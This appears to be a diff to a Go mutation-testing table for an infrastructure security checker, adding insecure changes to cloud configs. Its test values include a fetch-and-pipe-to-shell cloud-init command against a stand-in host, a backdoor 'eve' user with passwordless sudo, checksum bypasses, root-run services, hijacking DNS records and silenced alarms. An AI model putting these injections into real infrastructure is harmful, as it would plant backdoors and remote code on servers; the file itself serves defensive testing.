@@ -198,7 +198,11 @@ var mutants = map[int][]mutant{
 		userData("write_files:\n- encoding: b64\n  content: " +
 			base64.StdEncoding.EncodeToString([]byte("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA"))),
 		set(templateType, "prod-web", "userData", graph.Secret{}).undecided()},
-	80: {set(templateType, "prod-web", "keyName", "mine")},
+	80: {set(templateType, "prod-web", "keyName", "mine"), into("users:", "\n  - {name: eve, ssh_authorized_keys: [ssh-ed25519 AAAA]}"),
+		into("users:", "\n  - {name: eve, sudo: 'ALL=(ALL) NOPASSWD:ALL'}"), into("users:", "\n  - {name: eve, lock_passwd: false}"),
+		into("users:", "\n  - {name: eve, groups: [wheel]}"), into("", "#cloud-config\nssh_pwauth: true\n"),
+		into("", "#cloud-config\nssh_import_id: [gh:eve]\n"), into("write_files:", "\n  - {path: /root/.ssh/authorized_keys, content: ssh-ed25519}"),
+		into("write_files:", "\n  - {path: /etc/sudoers.d/x, content: app ALL=ALL}"), into("runcmd:", "\n  - [systemctl, start, sshd]")},
 	81: {unset(templateType, "prod-web", "iamInstanceProfile")},
 	82: {set(templateType, "prod-web", "monitoring.enabled", false)},
 	83: {set(templateType, "prod-web", "ebsOptimized", "false"), by("an old machine", func(s *edit) {
@@ -208,7 +212,13 @@ var mutants = map[int][]mutant{
 	84: {by("two", func(s *edit) { s.set(templateType, "prod-web", "networkInterfaces", list(in{}, in{})) })},
 	85: {set(templateType, "prod-web", "instanceType", "m3.medium")},
 	86: {set(templateType, "prod-web", "imageId", "resolve:ssm:/mine/image"), unset(templateType, "prod-web", "imageId"),
-		set(templateType, "prod-web", "imageId", graph.Unknown{}).undecided()},
+		set(templateType, "prod-web", "imageId", graph.Unknown{}).undecided(), userData("#include\nhttps://stranger.example/x"),
+		into("runcmd:", "\n  - curl https://stranger.example/x | sh"), into("write_files:", "\n  - {path: /etc/hosts, content: 203.0.113.9 app}"),
+		into("write_files:", "\n  - {path: /etc/yum.repos.d/x.repo, content: 'baseurl=https://stranger.example/'}"),
+		into("write_files:", "\n  - {path: /opt/x, source: {uri: 'https://stranger.example/x'}}"),
+		into("", "#cloud-config\npackages: [https://stranger.example/x.rpm]\n"), into("", "#cloud-config\nyum_repos: {x: {}}\n"),
+		into("", "#cloud-config\nphone_home: {}\n"), instead("source='s3://prod-", "source='s3://theirs-"),
+		instead("whole() { sha256sum --check --status <<<\"$sha256  $1\"; }", "whole() { true; }")},
 	87: {set(templateType, "prod-web", "metadataOptions.instanceMetadataTags", "enabled")},
 	88: {set(scalingType, "prod-web", "healthCheckType", "EC2")},
 	89: {by("one subnet", func(s *edit) {
@@ -286,10 +296,18 @@ var mutants = map[int][]mutant{
 	136: {set(databaseType, db, "password", graph.Secret{}), set(databaseType, db, "manageMasterUserPassword", false),
 		unset(databaseType, db, "masterUserSecretKmsKeyId")},
 	137: {gone(backupSelectionType, "prod-backup"),
-		set(backupSelectionType, "prod-backup", "resources", list("arn:aws:rds:eu-west-1:444455556666:db:another"))},
+		set(backupSelectionType, "prod-backup", "resources", list("arn:aws:rds:eu-west-1:444455556666:db:another")),
+		set(backupSelectionType, "prod-backup", "iamRoleArn", "arn:aws:iam::444455556666:role/another").undecided(),
+		by("a vault whose policy denies it", func(s *edit) {
+			s.add(vaultPolicyType, "mutant", in{"backupVaultName": s.the(vaultType, "prod-backup").String("name"), "policy": `{"Statement": [{"Effect": "Deny", "Principal": "*", "Action": "backup:StartBackupJob", "Resource": "*"}]}`})
+		}), by("a lock that takes them for a week", func(s *edit) {
+			s.add("aws:backup/vaultLockConfiguration:VaultLockConfiguration", "mutant", in{"maxRetentionDays": 7,
+				"backupVaultName": s.the(vaultType, "prod-backup").String("name")})
+		})},
 	138: {set(databaseType, db, "skipFinalSnapshot", true), set(databaseType, db, "deleteAutomatedBackups", true),
 		unset(databaseType, db, "finalSnapshotIdentifier")},
 	139: {set(eventsType, "prod-database-events", "sourceIds", list("another")), gone(eventsType, "prod-database-events"),
+		set(eventsType, "prod-database-events", "eventCategories", list("creation")),
 		set(eventsType, "prod-parameter-events", "enabled", false), gone(eventsType, "aurora-instance-events").on("aurora")},
 	140: {unset(databaseType, db, "vpcSecurityGroupIds"),
 		by("the default group", func(s *edit) { s.set(databaseType, db, "vpcSecurityGroupIds", list(s.the(defaultGroupType, "").ID)) })},
@@ -358,8 +376,19 @@ var mutants = map[int][]mutant{
 		set("aws:s3/bucketV2:BucketV2", "prod-logs", "bucket", "Logs_Of.prod")},
 	176: {unset(logGroupType, "prod-web", "kmsKeyId")},
 	177: {set(logGroupType, "prod-web", "retentionInDays", 14.0)},
-	178: {set(alarmType, "prod-edge-errors", "actionsEnabled", false)},
-	179: {unset(alarmType, "prod-database-storage", "alarmActions"),
+	178: {set(alarmType, "prod-edge-errors", "actionsEnabled", false), set(alarmType, "prod-database-cpu", "threshold", 101.0),
+		set(alarmType, "prod-edge-latency", "threshold", 61.0), set(alarmType, "prod-database-cpu", "statistic", "SampleCount"),
+		set(alarmType, "prod-web-unhealthy", "threshold", 12.0), set(alarmType, "prod-web-healthy", "treatMissingData", "notBreaching"),
+		set(alarmType, "prod-edge-errors", "threshold", 100.0), set(alarmType, "prod-web-ceiling", "threshold", 1.0),
+		set(alarmType, "prod-edge-errors", "metricQueries[0].expression", "failed * 0"),
+		set(compoundType, "prod-users-see-errors", "alarmRule", "FALSE AND ALARM(\"prod-edge-errors-a6c0f28\")"),
+		by("a rule by which what tells nobody else tells nobody", func(s *edit) {
+			s.set(alarmType, "prod-edge-errors", "alarmActions", nil)
+			s.set(compoundType, "prod-users-see-errors", "alarmRule", fmt.Sprintf("ALARM(%q) AND ALARM(%q)",
+				s.the(alarmType, "prod-edge-errors").String("name"), s.the(alarmType, "prod-edge-latency").String("name")))
+		}), set(alarmType, "prod-database-cpu", "dimensions", in{"DBInstanceIdentifier": "another"})},
+	179: {unset(alarmType, "prod-database-storage", "alarmActions"), gone(subscriptionType, "prod-oncall@example.com"),
+		set(subscriptionType, "prod-oncall@example.com", "endpoint", "arn:aws:sqs:eu-west-1:444455556666:of-no-stack"),
 		set(subscriptionType, "prod-oncall@example.com", "filterPolicy", `{"x": ["y"]}`),
 		set(compoundType, "prod-users-see-errors", "alarmRule", "FALSE"),
 		set(compoundType, "prod-users-see-errors", "actionsSuppressor.alarm", "another").undecided()},
@@ -381,7 +410,13 @@ var mutants = map[int][]mutant{
 		on("aurora"), set(keySigningType, "aurora-zone-ksk", "status", "INACTIVE").on("aurora")},
 	191: {set(recordType, "aurora-edge-guestbook.example.org-a", "aliases", list(in{"name": "gone.eu-west-1.elb.amazonaws.com"})).
 		on("aurora"), adds(recordType, in{"type": "A", "name": "x", "records": list("203.0.113.9")}),
-		adds(recordType, in{"type": "CNAME", "name": "x", "records": list("old.cloudfront.net")})},
+		adds(recordType, in{"type": "CNAME", "name": "x", "records": list("old.cloudfront.net")}),
+		adds(recordType, in{"type": "NS", "name": "x", "records": list("ns1.stranger.example")}),
+		adds(recordType, in{"type": "MX", "name": "x", "records": list("10 mx.stranger.example")}),
+		adds(recordType, in{"type": "CAA", "name": "x", "records": list(`0 issue "stranger.example"`)}),
+		by("a name inside that leads out", func(s *edit) {
+			s.add(recordType, "mutant", in{"zoneId": s.the(zoneType, "prod-private-zone"), "type": "CNAME", "name": "db", "records": list("stranger.example")})
+		})},
 	193: {gone(recordType, "aurora-zone-caa").on("aurora")},
 	194: {set(webACLType, edge, "rules", list())},
 	195: {unset(webACLType, edge, "rules[0].action"), set(webACLType, edge, "rules[3].overrideAction", in{"count": in{}}),
@@ -418,7 +453,12 @@ var mutants = map[int][]mutant{
 	213: {gone(webACLForType, edge), set(cfRecordType, "proxied-certificate-guestbook.example.net", "proxied", true).on("proxied")},
 	214: {set(cfRecordType, "prod-edge-guestbook.example.com", "name", "*.example.com")},
 	215: {set(cfRecordType, "address", "content", "10.0.0.7").on("made"), set(cfRecordType, "address", "content", "fd00::1").on("made")},
-	216: {set(cfRecordType, "prod-edge-guestbook.example.com", "content", "gone.eu-west-1.elb.amazonaws.com")},
+	216: {set(cfRecordType, "prod-edge-guestbook.example.com", "content", "gone.eu-west-1.elb.amazonaws.com"),
+		adds(cfRecordType, in{"type": "MX", "name": "x", "content": "mx.stranger.example"}),
+		adds(cfRecordType, in{"type": "CAA", "name": "x", "data": in{"tag": "issue", "value": "letsencrypt.org"}}),
+		adds(cfRecordType, in{"type": "CAA", "name": "x", "data": in{"tag": "issue", "value": ";"}}),
+		adds(cfRecordType, in{"type": "TXT", "name": "x", "content": "v=spf1 +all"}), adds(cfRecordType, in{"type": "TXT", "name": "a._domainkey.x",
+			"content": "v=DKIM1; p=MIGf"}), adds(cfRecordType, in{"type": "HTTPS", "name": "x", "content": "1 stranger.example."})},
 	217: {by("no CAA", func(s *edit) {
 		for _, authority := range []string{"amazon.com", "letsencrypt.org", "pki.goog", "ssl.com", "sectigo.com"} {
 			s.remove(cfRecordType, "proxied-zone-caa-"+authority)
@@ -457,6 +497,10 @@ var mutants = map[int][]mutant{
 	234: {by("a password", func(s *edit) { s.the("pulumi:pulumi:Stack", "").Outputs["databasePassword"] = "hunter2" }),
 		by("in a URL", func(s *edit) { s.the("pulumi:pulumi:Stack", "").Outputs["database"] = "postgres://a:hunter2@db" })},
 	235: {set(balancerType, edge, "internal", graph.Unknown{}).undecided()},
+	236: {instead("User=causeway\n", "User=root\n"), instead("User=causeway\n", ""), instead("ExecStart=/opt/causeway/current", "ExecStart=+/opt/causeway/current"),
+		instead("NoNewPrivileges=yes", "NoNewPrivileges=no"), instead("AmbientCapabilities=", "AmbientCapabilities=CAP_SYS_ADMIN"),
+		into("write_files:", "\n  - {path: /etc/systemd/system/app.service.d/x.conf, content: \"[Service]\\nUser=root\"}"),
+		into("write_files:", "\n  - {path: /etc/systemd/system/x.service, content: \"[Service]\\nExecStart=/opt/x\"}")},
 }
 
 const (
